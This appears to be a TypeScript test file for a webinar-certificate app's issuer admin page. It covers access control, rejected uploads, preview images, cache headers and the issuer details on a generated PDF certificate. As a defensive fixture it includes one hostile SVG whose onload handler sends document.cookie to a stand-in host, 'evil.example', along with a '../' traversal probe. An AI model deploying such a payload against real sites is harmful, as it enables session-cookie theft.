// The organiser's certificate-issuer page over its routes: who may see and change it, a refused
// file or text shown beside its field with a 4xx and nothing saved (no file either), the preview
// images, and the issuer as the pages and a downloaded certificate show it.
import fs from 'node:fs'
import path from 'node:path'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { finaliseAttendance } from '#app/models/attendance.server'
import { getIssuerSettings } from '#app/models/site-settings.server'
import { publishWebinar } from '#app/models/webinar.server'
import { action as issuerAction, loader as issuerLoader } from '#app/routes/admin.issuer'
import { loader as imageLoader } from '#app/routes/admin.issuer.$image[.]png'
import { loader as verifyLoader } from '#app/routes/certificates.$number'
import { loader as logoMarkLoader } from '#app/routes/site.logo.$file'
import { loader as residentPdfLoader } from '#app/routes/r.$token.certificate[.]pdf'
import { loader as rootLoader } from '#app/root'
import { getDb } from '#app/utils/db.server'
import { SITE_IMAGE_MAX_BYTES } from '#app/utils/site-image.server'
import { uploadRoot } from '#app/utils/uploads.server'
import { afterEnd, setZoomMinutes } from '#tests/setup/attendance'
import { call, confirmRoles, createWebinar, getRequest, register, signedInAs, type SignedInUser } from '#tests/setup/factories'
import { pngBytes } from '#tests/setup/images'

const db = getDb()
const BASE_URL = 'http://localhost:3000'
let organiser: SignedInUser

beforeAll(async () => {
  organiser = await signedInAs('organiser')
})

type Fields = Record<string, string | { bytes: Uint8Array; name: string; type?: string }>

const TEXTS = {
  programmeNameId: 'Program Cakap Digital Nusantara',
  programmeNameEn: 'Digital Skills Programme',
  issuerName: 'Direktorat Jenderal Aplikasi Informatika',
  signatoryName: 'Dr. Bambang Sutejo, M.Sc.',
  signatoryTitle: 'Direktur Pemberdayaan Informatika',
}

/** A multipart post, as the form sends it (a file input left empty is sent as an empty, unnamed file). */
function issuerPost(fields: Fields, cookie?: string) {
  const form = new FormData()
  for (const name of ['logo', 'signature']) if (!(name in fields)) form.append(name, new Blob([]), '')
  for (const [name, value] of Object.entries(fields)) {
    if (typeof value === 'string') form.append(name, value)
    else form.append(name, new Blob([new Uint8Array(value.bytes)], { type: value.type ?? 'image/png' }), value.name)
  }
  const headers = new Headers()
  if (cookie) headers.set('Cookie', cookie)
  return call(issuerAction as never, new Request(new URL('/admin/issuer', BASE_URL), { method: 'POST', body: form, headers }))
}

function uploadedFiles(): string[] {
  const root = uploadRoot()
  if (!fs.existsSync(root)) return []
  return (fs.readdirSync(root, { recursive: true }) as string[]).filter((file) => fs.statSync(path.join(root, file)).isFile()).sort()
}

const json = async (response: Response) => (await response.json()) as { errors: Record<string, string[]>; values: Record<string, string> }
const HOSTILE_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch(\'https://evil.example/\'+document.cookie)"><rect width="10" height="10"/></svg>'

describe('who may edit the issuer', () => {
  test('only an organiser: anyone else is sent to sign in or refused, and nothing is saved', async () => {
    const anonymous = await call(issuerLoader as never, getRequest('/admin/issuer'))
    expect(anonymous.status).toBe(302)
    expect(anonymous.headers.get('Location')).toBe('/login?redirectTo=%2Fadmin%2Fissuer')
    for (const role of ['speaker', 'moderator'] as const) {
      const other = await signedInAs(role)
      expect((await call(issuerLoader as never, getRequest('/admin/issuer', { cookie: other.cookie }))).status).toBe(403)
      expect((await issuerPost({ ...TEXTS, logo: { bytes: pngBytes(10, 10), name: 'logo.png' } }, other.cookie)).status).toBe(403)
      expect((await call(imageLoader as never, getRequest('/admin/issuer/logo.png', { cookie: other.cookie }), { image: 'logo' })).status).toBe(403)
    }
    expect((await issuerPost(TEXTS)).status).toBe(302)
    expect((await getIssuerSettings(db)).issuerName).toBeNull()
    expect(uploadedFiles()).toEqual([])
  })
})

describe('a refused upload', () => {
  test('an SVG with an event handler: 400, the message beside the logo field, nothing saved, no file left', async () => {
    const response = await issuerPost({ ...TEXTS, logo: { bytes: Buffer.from(HOSTILE_SVG), name: 'logo.svg', type: 'image/svg+xml' }, signature: { bytes: pngBytes(300, 90), name: 'ttd.png' } }, organiser.cookie)
    expect(response.status).toBe(400)
    const body = await json(response)
    expect(body.errors).toEqual({ logo: ['issuer.error.unsafeSvg'] })
    // The texts come back as typed, so nothing has to be typed again.
    expect(body.values).toMatchObject(TEXTS)
    expect(await getIssuerSettings(db)).toMatchObject({ issuerName: null, signatoryName: null, logo: null, signature: null })
    expect(uploadedFiles()).toEqual([])
  })

  test('a file over the limit: 413 beside its field; a PNG that is not one: 400', async () => {
    const large = await issuerPost({ ...TEXTS, signature: { bytes: Buffer.concat([pngBytes(10, 10), Buffer.alloc(SITE_IMAGE_MAX_BYTES)]), name: 'ttd.png' } }, organiser.cookie)
    expect(large.status).toBe(413)
    expect((await json(large)).errors).toEqual({ signature: [`issuer.error.tooLarge?kb=${SITE_IMAGE_MAX_BYTES / 1024}`] })
    const fake = await issuerPost({ ...TEXTS, logo: { bytes: Buffer.from('%PDF-1.7 not a picture'), name: 'logo.png' } }, organiser.cookie)
    expect(fake.status).toBe(400)
    expect((await json(fake)).errors).toEqual({ logo: ['issuer.error.notImage'] })
    expect(uploadedFiles()).toEqual([])
  })

  test('a text too long refuses the whole form: a good logo in the same post is not kept', async () => {
    const response = await issuerPost({ ...TEXTS, signatoryName: 'N'.repeat(121), logo: { bytes: pngBytes(40, 40), name: 'logo.png' } }, organiser.cookie)
    expect(response.status).toBe(400)
    expect((await json(response)).errors).toEqual({ signatoryName: ['form.tooLong?max=120'] })
    expect((await getIssuerSettings(db)).logo).toBeNull()
    expect(uploadedFiles()).toEqual([])
  })
})

describe('a saved issuer', () => {
  test('reaches the header, the footer, the preview, the verification page and the certificate PDF', async () => {
    const saved = await issuerPost({ ...TEXTS, logo: { bytes: pngBytes(120, 120), name: 'logo.png' }, signature: { bytes: pngBytes(300, 90, [10, 10, 10, 255]), name: 'ttd.png' } }, organiser.cookie)
    expect(saved.status).toBe(303)
    expect(saved.headers.get('Location')).toBe('/admin/issuer?done=saved')
    const page = (await (await call(issuerLoader as never, getRequest('/admin/issuer', { cookie: organiser.cookie }))).json()) as Record<string, unknown>
    expect(page).toMatchObject({ texts: TEXTS, logo: { width: 120, height: 120 }, signature: { width: 300, height: 90 } })

    const preview = await call(imageLoader as never, getRequest('/admin/issuer/signature.png', { cookie: organiser.cookie }), { image: 'signature' })
    expect(preview.status).toBe(200)
    expect(preview.headers.get('Content-Type')).toBe('image/png')
    expect(preview.headers.get('Cache-Control')).toBe('private, no-store')
    expect(Buffer.from(await preview.arrayBuffer()).subarray(1, 4).toString('latin1')).toBe('PNG')
    expect((await call(imageLoader as never, getRequest('/admin/issuer/other.png', { cookie: organiser.cookie }), { image: 'other' })).status).toBe(404)

    const root = (await (await call(rootLoader as never, getRequest('/'))).json()) as { identity: { logoMark: { url: string } } & Record<string, unknown> }
    expect(root.identity).toMatchObject({ programmeNameId: TEXTS.programmeNameId, programmeNameEn: TEXTS.programmeNameEn, issuerName: TEXTS.issuerName, logoMark: { width: 64, height: 64 } })
    // The header's logo is public and kept for a year: its address changes with its content.
    const file = root.identity.logoMark.url.replace('/site/logo/', '')
    const mark = await call(logoMarkLoader as never, getRequest(root.identity.logoMark.url), { file })
    expect(mark.status).toBe(200)
    expect(mark.headers.get('Content-Type')).toBe('image/png')
    expect(mark.headers.get('Cache-Control')).toBe('public, max-age=31536000, immutable')
    for (const other of ['logo.png', '../logo.png', file.replace(/[0-9a-f]{4}\.png$/, '0000.png')]) {
      expect((await call(logoMarkLoader as never, getRequest(`/site/logo/${encodeURIComponent(other)}`), { file: other })).status, other).toBe(404)
    }

    // A resident's certificate, downloaded now, names the issuer and the signatory.
    const webinar = await createWebinar(organiser.id, { complete: true })
    expect((await publishWebinar(db, webinar.id)).ok).toBe(true)
    await confirmRoles(webinar.id)
    const holder = await register(webinar.id, { name: 'Dewi Anggraini' })
    await setZoomMinutes(holder.id, 150)
    expect(await finaliseAttendance(db, webinar.id, organiser.id, afterEnd(10))).toMatchObject({ ok: true, present: 1 })
    const pdf = await call(residentPdfLoader as never, getRequest(`/r/${holder.token}/certificate.pdf`), { token: holder.token })
    expect(pdf.status).toBe(200)
    const doc = await getDocument({ data: new Uint8Array(await pdf.arrayBuffer()), isEvalSupported: false, useSystemFonts: false }).promise
    const content = await (await doc.getPage(1)).getTextContent()
    const text = content.items.map((item) => ('str' in item ? item.str : '')).join(' ').replace(/\s+/g, ' ')
    await doc.destroy()
    expect(text).toContain('PROGRAM CAKAP DIGITAL NUSANTARA')
    expect(text).toContain(TEXTS.issuerName)
    expect(text).toContain(TEXTS.signatoryName)
    expect(text).toContain(TEXTS.signatoryTitle)

    const number = (await db.selectFrom('certificates').select('number').where('registration_id', '=', holder.id).executeTakeFirstOrThrow()).number
    const verified = (await (await call(verifyLoader as never, getRequest(`/certificates/${number}`), { number })).json()) as Record<string, unknown>
    expect(verified).toMatchObject({ state: 'valid', issuerName: TEXTS.issuerName })
  })
})
